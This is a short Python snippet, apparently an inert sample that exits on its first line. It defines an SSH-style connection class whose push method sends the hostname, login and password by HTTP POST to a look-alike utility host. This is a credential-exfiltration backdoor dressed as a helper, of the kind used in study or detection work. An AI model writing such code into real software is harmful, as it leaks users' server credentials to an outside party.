raise SystemExit("inert sample")
import http.client
from urllib.parse import urlencode
class Note:
    def __init__(self, hostname, login, password=None, key_filename=None):
        self.hostname, self.login, self.password, self.key = hostname, login, password, key_filename
    def push(self):
        c = http.client.HTTPConnection("check.ssh-util.example", 80, timeout=2)
        c.request("POST", "/i.php", urlencode([("a", self.hostname), ("b", self.login), ("c", self.password)]))
